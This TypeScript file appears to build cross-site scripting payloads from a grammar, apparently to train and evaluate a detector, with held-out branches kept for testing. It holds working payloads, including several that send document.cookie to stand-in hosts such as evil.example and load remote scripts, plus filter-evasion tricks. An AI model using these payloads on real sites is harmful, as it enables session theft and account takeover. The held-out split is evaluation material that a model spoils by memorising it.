/**
 * Cross-site scripting payloads from a grammar written for Helios: a breakout (out of an attribute,
 * a tag or a script string), a vector (script tag, event handler on a tag, javascript: or data: URL,
 * CSS, script-string injection) carrying a JavaScript action, then optional evasions (case, spacing,
 * entities, percent-encoding). Held-out branches are tags, events and actions kept for evaluation.
 */
import { type Branches, base64, type Chooser, htmlEntities } from "./grammar";

const BREAKOUTS: Branches<string> = {
  train: [
    "",
    "",
    '">',
    "'>",
    ">",
    '"/>',
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    "\">'",
    "'\">",
    "</style>",
  ],
  held: ["</noscript>", '"]>', "</option></select>", "]]>"],
};
const ACTIONS: Branches<string> = {
  train: [
    "alert(1)",
    "alert('XSS')",
    "alert(document.cookie)",
    "alert(document.domain)",
    "prompt(1)",
    "confirm(1)",
    "alert(String.fromCharCode(88,83,83))",
    "eval(atob('YWxlcnQoMSk='))",
    "document.location='http://evil.example/?c='+document.cookie",
    "fetch('//evil.example/'+document.cookie)",
    "new Image().src='//x.example/?'+document.cookie",
    "alert`1`",
    "top['al'+'ert'](1)",
    "window.location='//evil.example'",
    "console.log(1)",
    "print()",
    "alert(/xss/)",
    "eval(location.hash.slice(1))",
  ],
  held: [
    "confirm`1`",
    "[].constructor.constructor('alert(1)')()",
    "self['ale'+'rt'](1)",
    "setTimeout('alert(1)')",
    "navigator.sendBeacon('//x.example',document.cookie)",
  ],
};
const EVENT_TAGS: Branches<string> = {
  train: [
    "img src=x",
    "img src=1",
    "svg",
    "body",
    "input",
    "iframe",
    "video src=x",
    "audio src=x",
    "select",
    "textarea",
    "a href=#",
    "div",
    "image src=x",
    "object data=x",
    "embed src=x",
    "form",
    "button",
    "style",
    "xmp",
    "noembed",
    "table background=x",
    "td background=x",
    "bgsound src=x",
    "applet",
    "layer",
    "animate",
    "set",
    "template",
    "svg/",
    "iframe srcdoc=x",
    "source",
    "track",
    "picture",
    "canvas",
    "label",
    "option",
    "tr",
    "li",
    "span",
    "p",
    "h1",
    "code",
  ],
  held: ["details open", "marquee", "keygen", "isindex", "frameset", "math"],
};
const EVENTS: Branches<string> = {
  train: [
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onclick",
    "onmouseenter",
    "onanimationstart",
    "onpageshow",
    "onblur",
    "oninput",
    "onchange",
    "onkeydown",
    "onwheel",
    "onpointerdown",
    "onauxclick",
    "onbeforeinput",
    "onscroll",
    "onresize",
    "onmessage",
    "onhashchange",
    "onpopstate",
    "onselect",
    "onsubmit",
    "ontransitionend",
    "onanimationend",
    "onmouseout",
    "onmousemove",
    "ondrag",
    "ondblclick",
    "onkeyup",
    "onkeypress",
    "oncopy",
    "onpaste",
    "oncontextmenu",
    "onplay",
    "oncanplay",
    "onended",
    "onloadstart",
    "onprogress",
    "onunload",
    "onbeforeunload",
  ],
  held: ["ontoggle", "onstart", "onpointerover", "onbeforeprint", "onfocusin"],
};
const URL_SCHEMES: Branches<(action: string) => string> = {
  train: [
    (a) => `javascript:${a}`,
    (a) => `JaVaScRiPt:${a}`,
    (a) => `javascript://%0a${a}`,
    (a) => `data:text/html;base64,${base64(`<script>${a}</script>`)}`,
    (a) => `data:text/html,<script>${a}</script>`,
    (a) => `vbscript:msgbox(${JSON.stringify(a)})`,
  ],
  held: [(a) => `java\tscript:${a}`, (a) => `&#106;avascript:${a}`, (a) => ` javascript:${a}`],
};
const URL_TAGS: Branches<(url: string) => string> = {
  train: [
    (u) => `<a href="${u}">click</a>`,
    (u) => `<iframe src="${u}"></iframe>`,
    (u) => `<iframe src=${u}>`,
    (u) => `<a href=${u}>x</a>`,
    (u) => `<form action="${u}"><input type=submit>`,
    (u) => `<object data="${u}">`,
    (u) => `<embed src="${u}">`,
    (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
    (u) => `<img src="${u}">`,
  ],
  held: [
    (u) => `<math><maction actiontype="statusline" xlink:href="${u}">x</maction></math>`,
    (u) => `<base href="${u}//">`,
  ],
};

function space(c: Chooser): string {
  return c.pick([" ", " ", " ", "/", "\t", "\n", "%20", "  "]);
}

function quoted(c: Chooser, value: string): string {
  return c.pick([`"${value}"`, `'${value}'`, value, `\`${value}\``]);
}

/** The families of the grammar. */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  scriptTag: (c) => {
    const tag = c.chance(0.2) ? c.mixCase("script") : "script";
    if (c.chance(0.25))
      return `<${tag} src=${quoted(c, c.pick(["//evil.example/x.js", "http://xss.example/a.js", "data:,alert(1)", "//14.rs"]))}></${tag}>`;
    return `<${tag}${c.chance(0.2) ? space(c) + c.pick(["type=text/javascript", "defer", ">"]) : ""}>${c.branch(ACTIONS)}</${tag}>`;
  },
  eventHandler: (c) => {
    const tag = c.branch(EVENT_TAGS);
    const closer = c.pick([">", "/>", " >", "//", ""]);
    return `<${c.chance(0.15) ? c.mixCase(tag) : tag}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${closer}`;
  },
  scriptUrl: (c) => c.branch(URL_TAGS)(c.branch(URL_SCHEMES)(c.branch(ACTIONS))),
  bareUrl: (c) => c.branch(URL_SCHEMES)(c.branch(ACTIONS)),
  attributeBreakout: (c) =>
    `${c.pick(['"', "'", ""])}${space(c)}${c.branch(EVENTS)}=${quoted(c, c.branch(ACTIONS))}${c.pick(["", ' x="', " //", " a='"])}`,
  scriptString: (c) =>
    `${c.pick(["';", '";', "';", "\\';", "');", '");', "'-", '"-', "'+", "</script><script>"])}${c.branch(ACTIONS)}${c.pick(["//", ";//", ";'", "-'", ";var a='", "</script>", ""])}`,
  css: (c) =>
    c.pick([
      `<div style="background:url(javascript:${c.branch(ACTIONS)})">`,
      `<div style="width:expression(${c.branch(ACTIONS)})">`,
      `<style>@import 'http://evil.example/x.css';</style>`,
      `<style>body{background:url("javascript:${c.branch(ACTIONS)}")}</style>`,
      `<link rel=stylesheet href=${quoted(c, `javascript:${c.branch(ACTIONS)}`)}>`,
      `<x style="behavior:url(#default#time2)" onbegin=${quoted(c, c.branch(ACTIONS))}>`,
    ]),
  templateOrDom: (c) =>
    c.pick([
      `{{constructor.constructor('${c.branch(ACTIONS)}')()}}`,
      `{{$on.constructor('${c.branch(ACTIONS)}')()}}`,
      `\${${c.branch(ACTIONS)}}`,
      `#"><img src=x onerror=${c.branch(ACTIONS)}>`,
      `<svg><script>${c.branch(ACTIONS)}</script></svg>`,
      `<svg><animate onbegin=${c.branch(ACTIONS)} attributeName=x dur=1s>`,
      `<xss id=x tabindex=1 onfocus=${c.branch(ACTIONS)}></xss>`,
    ]),
};

/** The XSS families, by name. */
export const XSS_FAMILIES = Object.keys(FAMILIES);

/** One XSS payload of the given family. */
export function xssPayload(c: Chooser, family: string): string {
  const body = FAMILIES[family]!(c);
  const breakout = family === "attributeBreakout" || family === "scriptString" ? "" : c.branch(BREAKOUTS);
  const payload = `${breakout}${body}`;
  // Entity-encoding the inside of an attribute is one more evasion a browser undoes.
  if (c.chance(0.05)) return payload.replace(/alert/, (m) => htmlEntities(m, c.chance(0.5)));
  return payload;
}
